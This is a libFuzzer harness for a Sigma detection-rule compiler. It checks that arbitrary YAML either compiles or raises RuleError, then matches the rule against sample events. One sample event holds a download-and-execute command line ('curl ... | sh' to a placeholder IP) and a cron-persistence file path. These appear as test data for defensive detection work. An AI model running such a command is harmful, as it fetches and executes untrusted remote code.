// libFuzzer: a Sigma rule file (YAML) through the loader, the modifier chains
// and the condition parser, then evaluated against a few events. Whatever the
// text, it compiles or is refused with RuleError; nothing else escapes.
#include <cstdint>
#include <string_view>

#include "behavior_sigma/event.hpp"
#include "rule_compiler.hpp"
#include "rule_error.hpp"

using namespace vigil::behavior::sigma;

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
    const std::string_view text(reinterpret_cast<const char*>(data), size);
    try {
        const auto rule = compile_rule(text, "fuzz.yml");
        SigmaEvent proc(Category::ProcessCreation);
        proc.set(FieldId::Image, "/usr/bin/curl");
        proc.set(FieldId::CommandLine, "curl -s http://198.51.100.7/x.sh | sh");
        proc.set(FieldId::ParentImage, "/bin/bash");
        proc.set(FieldId::User, "alice");
        proc.set(FieldId::ProcessId, "4242");
        (void)rule->matches(proc);
        SigmaEvent file(Category::FileEvent);
        file.set(FieldId::TargetFilename, "/etc/cron.d/evil");
        (void)rule->matches(file);
    } catch (const RuleError&) {
    }
    return 0;
}
